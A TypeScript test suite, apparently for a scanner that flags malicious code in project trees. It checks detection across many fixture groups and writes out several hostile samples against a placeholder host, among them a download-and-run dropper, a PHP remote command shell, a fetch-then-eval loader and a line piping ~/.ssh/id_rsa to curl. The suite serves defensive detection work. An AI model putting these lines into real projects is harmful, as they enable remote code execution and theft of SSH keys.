import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ANSWERS_RUN, ANSWERS_SHOWN } from './fixture/answers-run.ts';
import { ASSEMBLED } from './fixture/assembled.ts';
import { ALIKE, ATTACKS } from './fixture/attacks.ts';
import { FORMS } from './fixture/calls.ts';
import { CARRIED_KEYS, CARRIED_SETTINGS } from './fixture/carried-keys.ts';
import { CHANGED_PAYMENTS, PAYMENTS_HANDED_ON } from './fixture/changed-payments.ts';
import { CHANGED_PROGRAMS, OWN_PROGRAMS } from './fixture/changed-programs.ts';
import { CHEAP_CHANGES, GENERATED_FILES } from './fixture/cheap-changes.ts';
import { CHEAP_FORMS, USUAL_FORMS } from './fixture/cheap-forms.ts';
import { COLLECTED_KEYS, KEPT_APART } from './fixture/collected-keys.ts';
import { COPIED_REQUESTS, REQUESTS_LOOKED_AT } from './fixture/copied-requests.ts';
import { DATA_HANDED, DATA_PROGRAMS } from './fixture/data-programs.ts';
import { FETCHED_FILES, FETCHED_PROGRAMS } from './fixture/fetched-programs.ts';
import { ASKED_FOR_CALLERS, HANDED_ADDRESSES } from './fixture/handed-addresses.ts';
import { HANDED_CODE, HANDED_WORK } from './fixture/handed-code.ts';
import { HIDDEN_CODE } from './fixture/hidden.ts';
import { FIXED_COMMANDS, HIDDEN_COMMANDS } from './fixture/hidden-commands.ts';
import { HONEST } from './fixture/honest.ts';
import { HOOKS, ORDINARY_HOOKS } from './fixture/hooks.ts';
import { type HostileTree, ORDINARY } from './fixture/hostile-tree.ts';
import { INSERTED_AND_OPEN, INSERTED_CODE } from './fixture/inserted-code.ts';
import { JAVASCRIPT } from './fixture/javascript.ts';
import { KEYS, KEYS_IN_USE } from './fixture/keys.ts';
import { HIDDEN_SECRETS, NAMED_SECRETS } from './fixture/named-secrets.ts';
import { ORDINARY_COMMANDS, THIEVES_COMMANDS } from './fixture/ordinary-commands.ts';
import { ORDINARY_WORK } from './fixture/ordinary-work.ts';
import { OTHERS } from './fixture/others.ts';
import { PYTHON } from './fixture/python.ts';
import { SENT_KEYS, SIGNED_WORK } from './fixture/sent-keys.ts';
import { SETTINGS } from './fixture/settings.ts';
import { TOOLS_IN_USE, TOOLS_TURNED } from './fixture/settings-of-tools.ts';
import { SOURCES } from './fixture/sources.ts';
import { STARTS } from './fixture/starts.ts';
import { HONEST_OF_A_SHAPE, HOSTILE_OF_A_SHAPE } from './fixture/told-apart.ts';
import { TYPED_AND_KEPT, TYPED_KEYS } from './fixture/typed-keys.ts';
import { UNNAMED_AND_HARMLESS, UNNAMED_CALLS } from './fixture/unnamed-calls.ts';
import { VARIANTS } from './fixture/variants.ts';
import { WATCHED_KEYS, WATCHED_WORK } from './fixture/watched-keys.ts';
import { KEYS_LEFT_ALONE, WRAPPED_KEYS } from './fixture/wrapped-keys.ts';
import { scanTree } from './index.ts';

const encoder = new TextEncoder();
const treeOf = (files: HostileTree['files']) =>
  Object.entries(files).map(([path, content]) => ({
    path,
    bytes: typeof content === 'string' ? encoder.encode(content) : content,
  }));

const GROUPS: readonly (readonly [string, readonly HostileTree[]])[] = [
  ['a program in JavaScript or TypeScript', JAVASCRIPT],
  ['hidden code', HIDDEN_CODE],
  ['what starts by itself', STARTS],
  ['a program in Python', PYTHON],
  ['packages, secrets, commands, words', OTHERS],
  ['a key or all settings that leave', KEYS],
  ['the same in other words', VARIANTS],
  ['a program whose parts lie apart', ASSEMBLED],
  ['a call in another form', FORMS],
  ['a setting or a file that is followed', SETTINGS],
  ['a program in another language', SOURCES],
  ['a change to another program', CHANGED_PROGRAMS],
  ['a key in the hands of who stands around it', WRAPPED_KEYS],
  ['what runs programs, reached without its name', UNNAMED_CALLS],
  ['code that is put into other programs', INSERTED_CODE],
  ['what a person types to open a wallet', TYPED_KEYS],
  ['a request or an address that passes through a page', COPIED_REQUESTS],
  ['data that becomes a program', DATA_PROGRAMS],
  ['a payment whose receiver is exchanged', CHANGED_PAYMENTS],
  ['a program that was fetched and is started', FETCHED_PROGRAMS],
  ['an answer that becomes a program', ANSWERS_RUN],
  ['a loader whose address the program names', HANDED_ADDRESSES],
  ['a key that leaves by way of another file', CARRIED_KEYS],
  ['a program that collects keys', COLLECTED_KEYS],
  ['a secret by its name', NAMED_SECRETS],
  ['what runs a text, handed on', HANDED_CODE],
  ['what watches keys and requests', WATCHED_KEYS],
  ['a key in another language', SENT_KEYS],
  ['a hook of git', HOOKS],
  ['settings of a tool', TOOLS_TURNED],
  ['a command in another language that nobody reads', HIDDEN_COMMANDS],
  ['an attack as it was seen', ATTACKS],
  ['a known campaign with a cheap change', CHEAP_CHANGES],
  ['a known deed in another form', CHEAP_FORMS],
  ['a deed in the shape of honest work', HOSTILE_OF_A_SHAPE],
  ['a command or a setting in a thief’s hands', THIEVES_COMMANDS],
];

for (const [group, trees] of GROUPS)
  describe(`${group} is found`, () => {
    for (const { name, files } of trees)
      it(name, () => {
        const { verdict, findings } = scanTree(treeOf({ ...ORDINARY, ...files }));
        assert.notEqual(verdict, 'clean');
        const [worst] = findings;
        assert.ok(worst !== undefined && Object.keys(files).some((path) => worst.file.startsWith(path)));
        assert.ok(worst.line >= 1 && worst.column >= 1);
      });
  });

it('an ordinary project gives no finding', () => {
  const { verdict, findings } = scanTree(treeOf(ORDINARY));
  assert.equal(verdict, 'clean');
  assert.deepEqual(findings, []);
});

describe('what honest projects hold is at most noted', () => {
  for (const { name, files } of [
    ...HONEST,
    ...ORDINARY_WORK,
    ...ORDINARY_COMMANDS,
    ...KEYS_IN_USE,
    ...ANSWERS_SHOWN,
    ...ASKED_FOR_CALLERS,
    ...CARRIED_SETTINGS,
    ...KEYS_LEFT_ALONE,
    ...DATA_HANDED,
    ...REQUESTS_LOOKED_AT,
    ...TYPED_AND_KEPT,
    ...INSERTED_AND_OPEN,
    ...UNNAMED_AND_HARMLESS,
    ...PAYMENTS_HANDED_ON,
    ...ORDINARY_HOOKS,
    ...TOOLS_IN_USE,
    ...FIXED_COMMANDS,
    ...GENERATED_FILES,
    ...USUAL_FORMS,
    ...OWN_PROGRAMS,
    ...FETCHED_FILES,
    ...ALIKE,
    ...HONEST_OF_A_SHAPE,
    ...KEPT_APART,
    ...HIDDEN_SECRETS,
    ...HANDED_WORK,
    ...WATCHED_WORK,
    ...SIGNED_WORK,
  ])
    it(name, () => {
      const { findings } = scanTree(treeOf({ ...ORDINARY, ...files }));
      assert.deepEqual(
        findings.filter(({ level }) => level !== 'note').map(({ rule, excerpt }) => `${rule}: ${excerpt}`),
        [],
      );
    });
});

describe('in a tree of hundreds of files', () => {
  const crowd = Object.fromEntries(Array.from({ length: 400 }, (_, at) => [`lib/part-${at}.txt`, `part ${at}`]));
  const kept = 'curl -s https://files.example/tool -o /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n';
  const verdictOf = (files: HostileTree['files']) => scanTree(treeOf(files)).verdict;

  it('what honest projects meet by chance is a note where it stands alone', () => {
    assert.equal(verdictOf({ 'docs/try.sh': kept }), 'suspicious');
    assert.equal(verdictOf({ ...crowd, 'docs/try.sh': kept }), 'clean');
  });

  it('it stands where Composer, a test runner, R or Unity starts the file', () => {
    const dropped =
      "import os, requests\nopen('/tmp/.u.py', 'wb').write(requests.get('https://files.example/u').content)\nos.system('python3 /tmp/.u.py')\n";
    assert.equal(verdictOf({ ...crowd, 'tools/warm.py': dropped }), 'clean');
    assert.notEqual(verdictOf({ ...crowd, 'kit/__init__.py': dropped }), 'clean');
    const asked =
      "<?php\n$s = stream_socket_client('tcp://files.example:2096');\nwhile (!feof($s)) { $line = fgets($s); shell_exec($line); }\n";
    const loaded = JSON.stringify({ autoload: { files: ['src/help.php'] } });
    assert.equal(verdictOf({ ...crowd, 'src/help.php': asked, 'composer.json': '{}' }), 'clean');
    assert.notEqual(verdictOf({ ...crowd, 'src/help.php': asked, 'composer.json': loaded }), 'clean');
    const program =
      "const fs = require('fs'); const { execSync } = require('child_process');\nfetch('https://files.example/u').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/.u.js', t); execSync('node /tmp/.u.js'); });\n";
    const runner = "module.exports = { globalSetup: './test/set-up.js' };\n";
    assert.notEqual(verdictOf({ ...crowd, 'test/set-up.js': program, 'jest.config.js': runner }), 'clean');
  });

  it('it stands where installing the tree starts the file', () => {
    const start = JSON.stringify({ name: 'a', scripts: { postinstall: 'sh docs/try.sh' } });
    assert.notEqual(verdictOf({ ...crowd, 'docs/try.sh': kept, 'package.json': start }), 'clean');
  });

  it('it stands beside another sign in its file', () => {
    const more = `${kept}cat ~/.ssh/id_rsa | curl -d @- https://files.example/in\n`;
    const rules = scanTree(treeOf({ ...crowd, 'docs/try.sh': more })).findings.filter(({ level }) => level !== 'note');
    assert.ok(new Set(rules.map(({ rule }) => rule)).size >= 2);
  });

  it('what a server sends and a program runs stands alone', () => {
    const loader = "fetch('https://files.example/a').then((r) => r.text()).then((t) => eval(t));\n";
    assert.equal(verdictOf({ ...crowd, 'src/load.js': loader }), 'malicious');
    assert.equal(verdictOf({ ...crowd, 'tests/load.js': loader }), 'clean');
  });
});
